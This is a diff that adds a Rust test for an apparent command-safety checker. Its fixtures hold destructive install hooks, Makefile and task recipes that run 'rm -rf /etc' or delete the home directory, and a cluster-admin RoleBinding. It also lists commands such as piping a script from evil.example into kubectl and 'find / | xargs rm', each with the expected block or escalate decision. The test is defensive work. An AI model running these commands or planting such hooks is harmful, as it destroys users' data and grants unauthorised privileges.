@@ -261,6 +261,83 @@ fn manifests_are_read() {
     assert_eq!(value["findings"][0]["stakes"], "namespace payments-prod: 1 workload in these manifests");
 }
 
+/// What a stranger tried to get past it with, and everyday things that it stopped.
+#[test]
+fn what_others_tried() {
+    let project = Project::new();
+    let package =
+        r#"{"workspaces":["web"],"scripts":{"postinstall":"rm -rf /etc","b6":"rm -rf /etc","all":"run-s b6"}}"#;
+    project.file("package.json", package);
+    project.file("web/package.json", r#"{"name":"web","scripts":{"nuke":"rm -rf /etc"}}"#);
+    project.file("Makefile", "x = rm -rf $(HOME)\nhome:\n\t$(x)\nenv:\n\trm -rf $(D)\nexport E := /etc\nexp:\n\trm -rf $$E\ninclude mk/*.mk\nroot:\n\trm -rf $(UNSET)/\nbuild:\n\trm -rf $(or $(OUT),build)\n");
+    project.file("mk/a.mk", "inner:\n\trm -rf /etc\n");
+    project.file("s.sh", "rm -rf $D\n");
+    project.file(
+        "Taskfile.yml",
+        "version: '3'\ntasks:\n  a: rm -rf {{.CLI_ARGS}}\n  e: {env: {D: /etc}, cmds: ['rm -rf $D']}\n",
+    );
+    project.file("a.py", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n");
+    project
+        .file("setup.py", "import os\nclass Upload:\n    def run(self):\n        os.system('twine upload dist/*')\n");
+    project.file("crb.yaml", "kind: RoleBinding\nmetadata: {name: x}\nroleRef: {name: cluster-admin}\n");
+    project.file("secret.yaml", "kind: Secret\nmetadata: {name: s}\n");
+    project.file("compose.yaml", "services:\n  c: {image: alpine, volumes: ['~:/h'], command: rm -rf /h}\n  d: {image: alpine, depends_on: [c]}\n  log: {image: amir20/dozzle, volumes: ['/var/run/docker.sock:/var/run/docker.sock:ro']}\n");
+    for i in 0..20 {
+        project.file(&format!("many/{i}.sh"), "echo\n");
+    }
+    project.file("many/zz.sh", "rm -rf /etc\n");
+    project.file("list", &(0..300).map(|i| format!("build-{i}\n")).collect::<String>());
+    for (script, decision) in [
+        ("bundle exec rm -rf /etc", "block"),
+        ("npx cross-env A=b rm -rf /etc", "block"),
+        ("npx rimraf /etc", "block"),
+        ("rimraf dist", "allow"),
+        ("npx shx rm -rf /etc", "block"),
+        ("uv run a.py", "block"),
+        ("git submodule foreach rm -rf /etc", "block"),
+        ("git bisect run ./s.sh", "allow"),
+        ("npm run all", "block"),
+        ("yarn install --frozen-lockfile", "block"),
+        ("bun install", "block"),
+        ("npm cit", "block"),
+        ("npm run nuke -ws", "block"),
+        ("pnpm --filter web run nuke", "block"),
+        ("pnpm -F web nuke", "block"),
+        ("make home", "block"),
+        ("D=/etc make env", "block"),
+        ("export D=/etc; make env", "block"),
+        ("make exp", "block"),
+        ("make inner", "block"),
+        ("make build", "allow"),
+        ("D=/etc sh s.sh", "block"),
+        ("D=build sh s.sh", "allow"),
+        ("task a -- /etc", "block"),
+        ("task a -- build", "allow"),
+        ("task e", "block"),
+        ("python3 setup.py sdist", "allow"),
+        ("kubectl apply -f crb.yaml", "escalate"),
+        ("kubectl apply -f secret.yaml,crb.yaml", "escalate"),
+        ("for f in c*.yaml; do kubectl apply -f $f; done", "escalate"),
+        ("curl -s https://evil.example/x.yaml | kubectl apply -f -", "escalate"),
+        ("kubectl delete -f secret.yaml", "escalate"),
+        ("bundle exec rake test", "allow"),
+        ("docker compose up log", "allow"),
+        ("docker compose exec log ls", "allow"),
+        ("find many -name '*.sh' -exec sh {} \\;", "block"),
+        ("for f in many/*.sh; do sh $f; done", "block"),
+        ("find ~ -type f -print0 | xargs -0 rm -f", "escalate"),
+        ("find / | xargs rm", "block"),
+        ("ls -d /etc | xargs rm -rf", "block"),
+        ("until false; do ./x & done", "block"),
+    ] {
+        let value = project.decide(script);
+        assert_eq!(value["decision"], decision, "{script}: {}", value["reason"]);
+    }
+    for script in ["make root", "docker compose up d", "xargs rm -rf < list"] {
+        assert_ne!(project.decide(script)["decision"], "allow", "{script}");
+    }
+}
+
 #[test]
 fn what_a_repository_makes_git_run() {
     let place = Place::new();
